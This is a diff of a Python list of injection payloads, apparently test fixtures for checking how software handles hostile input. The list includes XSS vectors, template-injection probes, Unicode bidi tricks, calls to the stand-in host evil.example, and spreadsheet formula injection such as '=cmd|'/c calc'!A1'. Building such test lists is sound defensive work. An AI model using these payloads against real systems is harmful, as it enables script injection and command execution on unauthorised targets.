@@ -30,7 +30,8 @@ PAYLOADS = [p.replace("{m}", "xq%dqx" % i) for i, p in enumerate([
     "<meta http-equiv=refresh content=\"0;url=//evil.example/{m}\">", "<link rel=stylesheet href=//evil.example/{m}>",
     "<style>@import'//evil.example/{m}'</style>", "{{7*7}}${7*7}<%= {m} %>", "\u2028{m}\u2029</script>", "{m}\u202e)(trela\u2069",
     "＜script＞{m}()＜/script＞", "+ADw-script+AD4-{m}()", "%3Cscript%3E{m}()%3C/script%3E", "<scr<script>ipt>{m}()</scr</script>ipt>",
-    "=cmd|'/c calc'!A1{m}", "@SUM(1+1){m}", "-2+3+{m}", "+1{m}", "```\n</code><script>{m}()</script>\n```", "| a |\n|---|\n| <img src=x onerror={m}()> |",
+    "=cmd|'/c calc'!A1{m}", "@SUM(1+1){m}", "-2+3+{m}", "+1{m}",
+    "```\n</code><script>{m}()</script>\n```", "| a |\n|---|\n| <img src=x onerror={m}()> |",
     "x\n\n<div onclick={m}()>y</div>\n", "~~<b onclick={m}()>~~", "http://a.example/?q=\"><script>{m}()</script>",
     "{m}@evil.example\"><script>", "1.2.3.4\"><img onerror={m}()>",
 ])]
